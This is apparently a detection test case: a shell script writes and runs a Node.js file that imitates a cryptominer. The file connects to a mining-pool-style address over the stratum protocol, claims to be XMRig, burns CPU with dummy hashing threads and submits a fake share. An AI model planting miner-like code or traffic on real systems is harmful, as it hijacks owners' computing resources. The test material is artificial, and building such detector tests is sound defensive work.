#!/bin/sh
. /opt/case/case.sh

cat >/tmp/w.js <<'END'
const { Worker, isMainThread } = require("worker_threads"), { createHash } = require("crypto"), fs = require("fs");
const hash = () => { for (let end = Date.now() + 2500, n = 0; Date.now() < end; n++) createHash("sha256").update("job" + n).digest(); };
if (isMainThread) {
    const s = require("net").connect(3333, "203.0.113.10", () => s.write(JSON.stringify({ id: 1, method: "login", params: { login: "4BAIT", pass: "x", agent: "XMRig/6.21.0" } }) + "\n"));
    s.on("data", (d) => { fs.writeFileSync("/tmp/job", d); [new Worker(__filename), new Worker(__filename)].forEach((w, i) => w.on("exit", () => { s.write('{"id":2,"method":"submit","params":{"nonce":"0"}}\n'); setTimeout(() => process.exit(), 300); })); });
} else hash();
END
node /tmp/w.js
grep -q job_id /tmp/job
took_place
